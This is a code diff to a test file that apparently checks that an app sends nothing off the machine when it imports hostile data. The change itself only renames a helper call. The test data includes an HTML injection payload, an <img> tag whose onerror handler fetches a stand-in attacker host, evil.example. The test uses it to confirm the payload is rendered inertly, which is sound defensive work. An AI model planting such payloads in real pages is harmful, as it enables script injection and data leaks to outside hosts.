@@ -4,7 +4,7 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { startProxy, type RecordingProxy } from '../support/proxy.ts';
 import { appUrl, startStory, type Story } from '../support/story.ts';
 import { alpacaFile, chatFile } from '../support/tiny-files.ts';
-import { downloaded, details, goTo, importFiles, rowWith, tagEverything } from '../support/user.ts';
+import { downloaded, details, goTo, importFiles, tagEverything, openRow } from '../support/user.ts';
 
 const hostile = [
   '<img src="http://evil.example/pixel.png" onerror="fetch(\'http://evil.example/onerror\')">',
@@ -113,7 +113,7 @@ describe('what leaves the machine', () => {
     const { page } = story;
     await goTo(page, 'Data');
     await importFiles(page, [hostileFile]);
-    await rowWith(page, '<img src=').click();
+    await openRow(page, '<img src=');
     await details(page).getByText('<img src="http://evil.example/pixel.png"').first().waitFor();
     await goTo(page, 'Charts');
     await page.getByRole('region', { name: 'Overlap' }).waitFor();
